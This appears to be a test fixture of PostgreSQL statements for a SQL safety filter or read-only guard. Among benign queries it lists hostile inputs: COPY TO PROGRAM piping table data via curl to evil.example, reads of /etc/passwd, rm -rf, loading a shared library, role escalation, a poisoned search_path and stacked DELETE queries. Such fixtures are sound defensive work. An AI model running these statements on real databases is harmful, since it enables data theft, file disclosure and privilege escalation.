-- dialect: postgres
EXPLAIN ANALYZE DELETE FROM orders
-- ----
EXPLAIN (ANALYZE) UPDATE customers SET name = 'x'
-- ----
EXPLAIN (ANALYZE true, BUFFERS) INSERT INTO customers (name) VALUES ('x')
-- ----
EXPLAIN ANALYZE SELECT pg_sleep(10)
-- ----
EXPLAIN SELECT * FROM customers
-- ----
explain analyse delete from orders
-- ----
COPY customers TO PROGRAM 'curl http://evil.example/ -d @-'
-- ----
COPY (SELECT * FROM customers) TO PROGRAM 'rm -rf /tmp/x'
-- ----
COPY customers FROM PROGRAM 'cat /etc/passwd'
-- ----
COPY customers TO '/tmp/customers.csv'
-- ----
COPY customers FROM '/etc/passwd'
-- ----
COPY customers TO STDOUT
-- ----
PREPARE p AS DELETE FROM orders
-- ----
PREPARE q (int) AS SELECT * FROM customers WHERE id = $1
-- ----
EXECUTE p
-- ----
EXECUTE q(1)
-- ----
DEALLOCATE ALL
-- ----
PREPARE p AS SELECT 1; EXECUTE p
-- ----
SET default_transaction_read_only = off
-- ----
SET SESSION default_transaction_read_only TO off
-- ----
SET LOCAL statement_timeout = 0
-- ----
SET statement_timeout TO DEFAULT
-- ----
SET ROLE postgres
-- ----
SET SESSION AUTHORIZATION postgres
-- ----
SET search_path = evil, public
-- ----
SET app.tenant_id = '2'
-- ----
SET TRANSACTION READ WRITE
-- ----
RESET ALL
-- ----
RESET ROLE
-- ----
SHOW ALL
-- ----
SHOW data_directory
-- ----
SHOW hba_file
-- ----
CALL do_something()
-- ----
LISTEN channel
-- ----
NOTIFY channel, 'payload'
-- ----
UNLISTEN *
-- ----
BEGIN
-- ----
START TRANSACTION READ WRITE
-- ----
COMMIT
-- ----
ROLLBACK
-- ----
SAVEPOINT s1
-- ----
VACUUM FULL customers
-- ----
ANALYZE customers
-- ----
CHECKPOINT
-- ----
LOAD '/tmp/evil.so'
-- ----
DISCARD ALL
-- ----
DECLARE c CURSOR FOR SELECT * FROM customers
-- ----
FETCH ALL FROM c
-- ----
MOVE FORWARD 1 FROM c
-- ----
CLOSE c
-- ----
REASSIGN OWNED BY postgres TO attacker
-- ----
DROP OWNED BY CURRENT_USER
-- ----
TABLE customers; DELETE FROM orders
